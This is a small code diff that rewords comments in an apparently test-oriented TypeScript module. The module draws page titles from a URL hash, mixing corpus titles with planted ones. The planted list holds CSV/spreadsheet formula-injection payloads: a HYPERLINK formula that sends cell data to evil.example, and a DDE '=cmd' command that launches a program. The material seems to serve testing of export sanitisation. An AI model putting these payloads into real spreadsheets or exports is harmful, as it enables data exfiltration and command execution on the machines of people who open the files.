@@ -1,7 +1,7 @@
 import { titles } from '../../corpus/read.ts';
 import { hashOf } from '../random.ts';
 
-/** Some are there to be run where a list of links is opened as a sheet. */
+/** Titles that would run as formulas if a list of links were opened as a sheet. */
 const formulas = [
   '=HYPERLINK("https://evil.example/?"&A1,"Win")',
   "=cmd|'/c calc'!A1",
@@ -15,7 +15,7 @@ const known = titles()
   .map(({ text }) => text)
   .filter(({ length }) => length < 1000);
 
-/** The title of a page: whoever wrote the page has chosen it. It follows from the address, and takes no draw away from what else happens. */
+/** The title of a page, which its author chose. It follows from the URL, so it uses up no random draw. */
 export function titleOf(url: string): string {
   const hash = hashOf(url);
   const some = hash % 2 === 0 ? planted : known;
